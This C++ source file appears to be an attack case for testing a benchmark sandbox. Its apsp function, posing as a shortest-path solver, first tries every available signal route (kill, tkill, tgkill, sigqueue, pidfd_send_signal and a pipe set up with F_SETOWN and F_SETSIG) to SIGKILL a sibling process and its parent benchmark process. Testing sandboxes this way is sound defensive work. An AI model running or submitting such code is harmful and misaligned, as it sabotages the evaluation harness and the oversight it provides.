// Ends another process of the user and the benchmark, by every call that sends a signal.
#include <signal.h>
#include <sys/syscall.h>

#include "attack.h"

static void kills(int pid) {
  kill(pid, SIGKILL);
  syscall(SYS_tkill, pid, SIGKILL);
  syscall(SYS_tgkill, pid, pid, SIGKILL);
  sigqueue(pid, SIGKILL, {});
  siginfo_t info{};
  info.si_code = SI_QUEUE;
  syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGKILL, &info);
  const long descriptor = syscall(434 /* pidfd_open */, pid, 0);
  syscall(424 /* pidfd_send_signal */, descriptor, SIGKILL, nullptr, 0);
  // The kernel sends SIGKILL to the owner of a pipe when something is written to it.
  int ends[2];
  if (pipe(ends) == 0) {
    fcntl(ends[0], F_SETOWN, pid);
    fcntl(ends[0], 10 /* F_SETSIG */, SIGKILL);
    fcntl(ends[0], F_SETFL, O_ASYNC);
    if (write(ends[1], "", 1) != 1) return;
  }
}

void apsp(int n, int* graph) {
  kills(SIBLING);
  kills(getppid());
  solve(n, graph);
}
